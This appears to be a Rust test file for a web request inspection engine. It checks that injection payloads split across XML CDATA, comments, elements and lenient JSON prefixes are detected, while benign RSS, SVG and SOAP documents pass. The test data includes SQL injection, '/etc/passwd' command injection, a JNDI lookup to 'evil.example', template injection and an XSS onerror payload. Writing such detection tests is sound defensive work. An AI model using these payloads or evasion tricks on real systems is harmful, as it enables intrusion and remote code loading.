//! XML, JSON and GraphQL documents.

use super::{FORM, JSON, assert_clean, assert_payload, escaped, signatures, typed};
use engine::mutate::empty_request;
use shared::InspectRequest;

/// What ends a token of text in XML, and what follows it.
const SPLITS: &[(&str, &str)] = &[
    ("<![CDATA[", "]]>"),
    ("<!-- -->", ""),
    ("<?p?>", ""),
    ("<!--a--><?b?><![CDATA[", "]]><!--c-->"),
    ("<b/>", "<c></c>"),
    ("<b>", "</b>"),
];

#[test]
fn split_texts_of_xml_are_joined() {
    for (before, payload, after) in [
        ("' o", "r 1", "=1--"),
        (";c", "at /et", "c/passwd"),
        ("${jn", "di:ld", "ap://evil.example/a}"),
        ("&lt;img src=x on", "error=aler", "t(1)>"),
    ] {
        for (open, close) in SPLITS {
            let text = format!("{before}{open}{payload}{close}{after}");
            for document in [
                format!("<a>{text}</a>"),
                format!("<a>\n  <q>{text}</q>\n</a>"),
                format!("<?xml version=\"1.0\"?><a><q>x</q><q>{text}</q></a>"),
                // Without its end.
                format!("<a><q>{text}"),
            ] {
                assert_payload(&typed("text/xml", document.clone()), &document);
            }
        }
    }
    let around = typed("text/xml", "<a>' o<b>x</b>r 1=1--</a>");
    assert_payload(&around, "texts around an element");
    let nested = "<?xml version=\"1.0\"?><a>' o<![CDATA[r 1]]>=1--</a>";
    let query = InspectRequest { query: format!("x={}", escaped(nested)), ..empty_request("GET") };
    assert_payload(&query, "in a parameter");
}

#[test]
fn split_texts_without_an_attack_pass() {
    for (open, close) in SPLITS {
        for text in ["Alice", "O'", "a > b & "] {
            let document =
                format!("<a><q>{text}{open} and Bob's{close} garden</q></a>").replace('&', "&amp;");
            assert_clean(&typed("text/xml", document.clone()), &document);
        }
    }
}

#[test]
fn feeds_and_pages_with_many_sections_pass() {
    let item = |number: usize| {
        format!(
            "<item><title><![CDATA[Post {number}: it's here]]></title><link>https://shop.example/p/{number}</link>\
             <description><![CDATA[<p>Some <b>text</b> of post {number}]]]]><![CDATA[></p>]]></description></item>"
        )
    };
    let items: String = (0..3_000).map(item).collect();
    let feed = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Shop</title>{items}</channel></rss>"
    );
    assert_clean(&typed("application/rss+xml", feed), "RSS");
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><style><![CDATA[.a{fill:red}]]></style>\
               <text>one <tspan>two</tspan> three<!-- note --> four</text></svg>";
    assert_clean(&typed("image/svg+xml", svg), "SVG");
    let soap = "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><m:Order><m:note>\
                Two <![CDATA[& a half]]> of them<!-- ok --></m:note><m:id>17</m:id></m:Order></s:Body></s:Envelope>";
    assert_clean(&typed("application/soap+xml", soap), "SOAP");
}

#[test]
fn texts_that_are_joined_at_many_levels_are_reported() {
    let document = format!("{}{}{}", "<a>x".repeat(100), "y".repeat(200_000), "</a>".repeat(100));
    assert!(signatures(&typed("text/xml", document)).iter().any(|it| it.starts_with("overlimit-bytes")));
    // A page of paragraphs with marks in them is not.
    let paragraph = "<p>It <b>is <i>some</i> text</b> of <a href='/x'>the page</a>.</p>\n";
    let page = format!("<html><body><div>{}</div></body></html>", paragraph.repeat(10_000));
    assert_clean(&typed("application/xhtml+xml", page), "XHTML");
}

/// What lenient JSON parsers skip before a document.
const SKIPPED: &[&str] =
    &["/* a */", "// a\n", "/**//**/ ", ")]}'\n", ")]}',\n", "\u{feff}\u{feff}", "\u{feff}/* a */\u{feff}"];

#[test]
fn what_parsers_skip_before_json_hides_nothing() {
    for before in SKIPPED {
        for payload in ["{{7*7}}", "' or 1=1--", ";cat /etc/passwd"] {
            for (content_type, document) in [
                (JSON, format!("{before}{{\"a\":\"{payload}\"}}")),
                ("text/plain", format!("{before}[\"{payload}\"]")),
                (FORM, format!("x={}", escaped(format!("{before}{{\"a\":\"{payload}\"}}")))),
            ] {
                assert_payload(&typed(content_type, document.clone()), &document);
            }
        }
        assert_clean(&typed(JSON, format!("{before}{{\"a\":\"words\",\"b\":[1,true,null]}}")), before);
    }
}

#[test]
fn comments_and_bare_words_of_json_and_graphql_are_inspected() {
    for value in [
        "{/*$(cat /etc/passwd)*/\"a\":1}",
        "{\"a\":1}//;cat /etc/passwd",
        "[1] waitfor delay [2]",
        "query { a # $(cat /etc/passwd)\n }",
    ] {
        assert_payload(&typed(FORM, format!("x={}", escaped(value))), value);
    }
    for value in
        ["{/* a note */\"a\":1}", "{\"a\":1} // the end", "[1, 2.5e3, null, true]", "query { a # the id\n }"]
    {
        assert_clean(&typed(FORM, format!("x={}", escaped(value))), value);
    }
}
